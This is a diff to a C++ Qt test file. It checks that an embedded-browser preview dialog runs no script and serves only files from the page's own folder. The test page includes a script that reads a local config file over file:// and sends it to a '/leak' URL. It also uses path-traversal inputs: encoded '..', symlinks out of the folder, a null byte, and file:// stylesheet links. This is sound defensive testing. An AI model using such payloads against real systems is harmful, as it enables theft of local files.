@@ -1,12 +1,14 @@
 // The two windows with the embedded browser, on the engine plugin: the preview shows a
-// local Shift-JIS page and shows it afresh on the next preview, fetches remote images and
-// runs no script; the auction page dialog takes the address of a page served over HTTP
-// once it has loaded, never of a local file. Without the plugin both say so.
+// local Shift-JIS page and shows it afresh on the next preview, fetches remote images,
+// runs no script and reads nothing local outside the page's folder; the auction page dialog takes
+// the address of a page served over HTTP once it has loaded, never of a local file. Without the
+// plugin both say so.
 
 #include "core/app/helpers.h"
 #include "gui/page/product_page_windows.h"
 #include "gui/shell/qt_window_dialogs.h"
 #include "gui/web/auction_page_dialog.h"
+#include "gui/web/engine/page_folder.h"
 #include "gui/web/preview_dialog.h"
 #include "gui/web/web_browser.h"
 #include "gui/web/web_engine_loader.h"
@@ -88,14 +90,28 @@ private slots:
         // What a script could reach: a file beside the page and one outside its folder.
         const std::string secret = InstallDir() + "hanamo.ini";
         WriteFile(InstallDir() + "work/near.txt", "near");
-        const std::string page =
-            "<html><head><title>t</title></head><body><img src=\"" + base.toStdString() +
-            "/photo.jpg\"><script>document.title = 'ran';"
-            "var x = new XMLHttpRequest(); x.open('GET', 'file://" +
-            secret + "', false); x.send(); new Image().src = '" + base.toStdString() +
-            "/leak?' + encodeURIComponent(x.responseText);</script>"
-            "<img src=\"near.txt\"><img src=\"file://" +
-            secret + "\"></body></html>";
+        // Style sheets beside the page load through the program and their imports are
+        // seen here; one reached through a link out of the folder, by an encoded "..",
+        // or as a file: address must not be.
+        const std::string import = "@import url(\"" + base.toStdString() + "/";
+        WriteFile(InstallDir() + "work/beside.css", import + "beside\");");
+        WriteFile(InstallDir() + "outside.css", import + "outside\");");
+        std::filesystem::create_symlink(InstallDir() + "outside.css",
+                                        InstallDir() + "work/linked.css");
+        const std::string styles =
+            "<link rel=\"stylesheet\" href=\"beside.css\"><link rel=\"stylesheet\" "
+            "href=\"linked.css\"><link rel=\"stylesheet\" href=\"..%2Foutside.css\">"
+            "<link rel=\"stylesheet\" href=\"file://" +
+            InstallDir() + "outside.css\">";
+        const std::string page = "<html><head><title>t</title>" + styles +
+                                 "</head><body><img src=\"" + base.toStdString() +
+                                 "/photo.jpg\"><script>document.title = 'ran';"
+                                 "var x = new XMLHttpRequest(); x.open('GET', 'file://" +
+                                 secret + "', false); x.send(); new Image().src = '" +
+                                 base.toStdString() +
+                                 "/leak?' + encodeURIComponent(x.responseText);</script>"
+                                 "<img src=\"near.txt\"><img src=\"file://" +
+                                 secret + "\"></body></html>";
         WriteFile(InstallDir() + "work/preview.html", page);
 
         ScriptedHost host;
@@ -104,9 +120,34 @@ private slots:
         QSignalSpy loaded(windows.preview(), &PreviewDialog::pageLoaded);
         QVERIFY(WaitLoaded(loaded, 1));
         QTRY_VERIFY(server.requested.contains(Q("/photo.jpg")));
+        QTRY_VERIFY(server.requested.contains(Q("/beside")));
         QCOMPARE(windows.preview()->browser()->title(), Q("t"));
         QTest::qWait(200);
-        QCOMPARE(server.requested, QStringList{Q("/photo.jpg")});
+        server.requested.sort();
+        QCOMPARE(server.requested, (QStringList{Q("/beside"), Q("/photo.jpg")}));
+    }
+
+    void pageFolderGivesOnlyItsOwnFiles() {
+        const QString work = QString::fromStdString(InstallDir() + "work");
+        WriteFile(InstallDir() + "work/a b.jpg", "x");
+        WriteFile(InstallDir() + "secret.txt", "s");
+        std::filesystem::create_directory(InstallDir() + "work/sub");
+        std::filesystem::create_symlink(InstallDir() + "secret.txt", InstallDir() + "work/out");
+        std::filesystem::create_symlink(InstallDir() + "work/a b.jpg", InstallDir() + "work/in");
+        const QString folder = PageFolderOf(work + Q("/preview.html"));
+        const auto file = [&folder](const char* path) {
+            return FileInFolder(folder, QUrl(Q("hanamori-page://view1") + Q(path)));
+        };
+        QCOMPARE(file("/a%20b.jpg"), folder + Q("/a b.jpg"));
+        QCOMPARE(file("/sub/../in"), folder + Q("/a b.jpg"));
+        for (const char* refused : {"/out", "/..%2Fsecret.txt", "/sub%2F..%2F..%2Fsecret.txt",
+                                    "/sub", "/missing", "/a%20b.jpg%00", ""}) {
+            QVERIFY2(file(refused).isEmpty(), refused);
+        }
+        QVERIFY(FileInFolder(QString(), QUrl(Q("hanamori-page://view1/a%20b.jpg"))).isEmpty());
+        QCOMPARE(ContentTypeOf(Q("x.HTM")), QByteArray("text/html;charset=Shift_JIS"));
+        QCOMPARE(ContentTypeOf(Q("x.css")), QByteArray("text/css;charset=Shift_JIS"));
+        QCOMPARE(ContentTypeOf(Q("x.jpg")), QByteArray("image/jpeg"));
     }
 
     void previewShowsLocalShiftJisPagesAndReloads() {
